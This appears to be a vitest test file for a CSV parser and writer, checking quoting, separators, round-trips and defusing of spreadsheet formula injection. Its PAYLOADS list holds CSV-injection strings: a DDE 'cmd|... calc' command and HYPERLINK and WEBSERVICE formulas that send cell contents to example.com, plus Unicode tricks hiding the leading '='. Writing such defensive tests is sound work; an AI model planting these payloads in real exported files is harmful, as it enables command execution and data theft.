import fc from 'fast-check'
import { expect, test } from 'vitest'

import { csvLines, csvText, guessSeparator, parseCsv, parseCsvLines } from './csv.ts'

const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−']
const BEFORE = ['', ' ', '   ', '\t', '\r', '\n', '\0', '\u3000', '\u00a0', '\u200b', '\uFEFF']
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.com?x="&A1,"見積")',
  'WEBSERVICE(CONCATENATE("https://example.com/",A2))',
  'SUM(1+9)*cmd|"x"!A1',
]
/** Each start with each body, and each thing that hides a start. */
const PAYLOADS = [
  ...STARTS.flatMap((start) => BODIES.map((body) => start + body)),
  ...BEFORE.flatMap((before) => STARTS.slice(0, 4).map((start) => `${before}${start}1+1`)),
  ...['\tplain', '\rplain', '\0plain', '\u202e=1+1', '\u2066+1'],
]
const HARMLESS = [
  '',
  '山田太郎',
  '김민수',
  "O'Neill",
  'a "b", c',
  'two\r\nlines',
  ' ends and begins with a blank ',
  '00-1',
  '1=1',
  'x@example.com',
]

test('CSV: each line is a record by the names of the header', () => {
  expect(parseCsv('a,b\n1,2\n3,4\n')).toEqual([
    { a: '1', b: '2' },
    { a: '3', b: '4' },
  ])
  expect(parseCsv('a,b\r\n1,\r\n,2')).toEqual([
    { a: '1', b: '' },
    { a: '', b: '2' },
  ])
})

test('CSV: quoted cells keep commas, quotes and line ends', () => {
  expect(parseCsv('a,b\n"1,2","say ""hello""\nand go"\n')).toEqual([
    { a: '1,2', b: 'say "hello"\nand go' },
  ])
})

test('CSV: a byte order mark is no part of the first name', () => {
  expect(parseCsv('\uFEFFa\n香り')).toEqual([{ a: '香り' }])
})

test('CSV: a header alone has no records', () => {
  expect(parseCsv('a,b\n')).toEqual([])
})

test.each([
  ['', 'has a header'],
  ['a,a\n1,2', 'no column'],
  ['a,b\n1', 'line 2 has 2 cells'],
  ['a,b\n1,2,3', 'line 2 has 2 cells'],
  ['a,b\n1,2\n\n', 'line 3 has 2 cells'],
  ['a\n"open', 'line 2 has its quotes'],
  ['a\n"shut"tail', 'line 2 has its quotes'],
  ['a\nmid"dle', 'line 2 has its quotes'],
])('CSV: %o is refused whole', (text, reason) => {
  expect(() => parseCsv(text)).toThrow(reason)
})

test('CSV: what is written by the rules is read back as it was', () => {
  const cell = fc.string({ unit: fc.constantFrom('a', '香', ',', '"', '\n', '\r\n', ' ') })
  const quote = (text: string) => `"${text.replaceAll('"', '""')}"`
  fc.assert(
    fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1 }), (rows) => {
      const text = ['x,y', ...rows.map((row) => row.map(quote).join(','))].join('\r\n')
      expect(parseCsv(text)).toEqual(rows.map(([x, y]) => ({ x, y })))
    }),
  )
})

test('CSV: a bank’s file is cut at its own separator, and each line knows its number', () => {
  const text = 'a;b\r\n"1;2";"two\nlines"\n\n,;\t\r3;4'
  expect(guessSeparator(text)).toBe(';')
  expect([...parseCsvLines(text, ';')]).toEqual([
    { line: 1, cells: ['a', 'b'], quotes: 'well_formed' },
    { line: 2, cells: ['1;2', 'two\nlines'], quotes: 'well_formed' },
    { line: 4, cells: [''], quotes: 'well_formed' },
    { line: 5, cells: [',', '\t'], quotes: 'well_formed' },
    { line: 6, cells: ['3', '4'], quotes: 'well_formed' },
  ])
  expect([guessSeparator('a\tb'), guessSeparator('a,b;c,d'), guessSeparator('')]).toEqual([
    '\t',
    ',',
    ',',
  ])
})

test('CSV: a line with an open or a stray quote says so and keeps what can be read', () => {
  expect([...parseCsvLines('"shut"tail,b\nmid"dle\nx,"open\nend')]).toEqual([
    { line: 1, cells: ['shut', 'b'], quotes: 'stray' },
    { line: 2, cells: ['mid"dle'], quotes: 'stray' },
    { line: 3, cells: ['x', 'open\nend'], quotes: 'open' },
  ])
})

test('A.4 CSV: a cell is quoted when it needs it, and lines end with CRLF', () => {
  expect(csvLines([['a', 'b,c', 'say "x"', ' y', 'two\nlines']])).toBe(
    'a,"b,c","say ""x"""," y","two\nlines"\r\n',
  )
})

test('A.4 CSV: no cell begins with what a spreadsheet computes, however it is hidden', () => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(60)
  for (const payload of PAYLOADS)
    expect([payload, cellsIn(csvText([[payload]]))]).toEqual([payload, [[`'${payload}`]]])
})

test('A.4 CSV: everything else is read back as it was written', () => {
  expect(cellsIn(csvText([HARMLESS, HARMLESS]))).toEqual([HARMLESS, HARMLESS])
})

test('A.4 CSV: a number is no formula, and nothing known is an empty cell', () => {
  expect(csvLines([[-5, 0, null, 1.5]])).toBe('-5,0,,1.5\r\n')
})

test('A.4 CSV: a file begins with the mark by which spreadsheets know UTF-8', () => {
  expect(csvText([])).toBe('\uFEFF')
})

const cellsIn = (text: string): string[][] =>
  [...parseCsvLines(text.slice(1))].map(({ cells }) => cells)
